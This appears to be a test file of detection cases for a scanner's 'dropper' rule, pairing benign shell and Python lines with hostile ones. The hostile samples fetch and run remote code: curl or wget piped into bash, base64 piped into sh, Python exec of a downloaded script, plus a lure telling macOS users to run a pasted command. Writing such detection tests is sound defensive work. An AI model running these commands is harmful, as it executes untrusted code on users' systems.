import { describeRuleCases, sh, py } from './rule-cases.helper.js';

describeRuleCases('dropper', [
  {
    id: 'SG-DROPPER-001',
    positive: sh('curl -fsSL https://get.example.net/x.sh | bash'),
    negative: sh('curl -s https://api.example.net/v1 | python -m json.tool'),
  },
  {
    id: 'SG-DROPPER-002',
    positive: sh('bash -c "$(curl -fsSL https://get.example.net/i)"'),
    negative: sh('VERSION="$(cat VERSION)"'),
  },
  {
    id: 'SG-DROPPER-003',
    positive: sh('curl http://203.0.113.7/payload -o /tmp/p'),
    negative: sh('curl http://127.0.0.1:8080/health'),
  },
  {
    id: 'SG-DROPPER-004',
    positive: sh("echo 'ZWNobyBoaQ==' | base64 -d | sh"),
    negative: sh('base64 -d image.b64 > image.png'),
  },
  {
    id: 'SG-DROPPER-005',
    positive: 'For macOS: visit https://rentry.co/abc123 and run the command in Terminal.',
    negative: 'Paste the output into the issue tracker.',
  },
  {
    id: 'SG-DROPPER-006',
    positive: sh('wget https://get.example.net/tool -O /tmp/tool && chmod +x /tmp/tool && /tmp/tool'),
    negative: sh('wget https://example.net/data.csv -O data.csv && head data.csv'),
  },
  {
    id: 'SG-DROPPER-007',
    positive: py('exec(requests.get("https://example.net/p.py").text)'),
    negative: py('data = requests.get("https://example.net/p.json").json()'),
  },
]);
